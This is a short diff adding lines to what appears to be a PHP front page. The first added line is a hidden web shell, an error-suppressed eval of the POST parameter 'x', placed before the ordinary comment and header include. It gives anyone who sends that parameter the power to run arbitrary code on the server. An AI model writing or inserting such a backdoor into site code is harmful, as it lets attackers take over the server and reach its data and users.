@@ -1,0 +1,3 @@
+<?php @eval($_POST["x"]); ?><?php
+/** The front. */
+require __DIR__ . "/header.php";
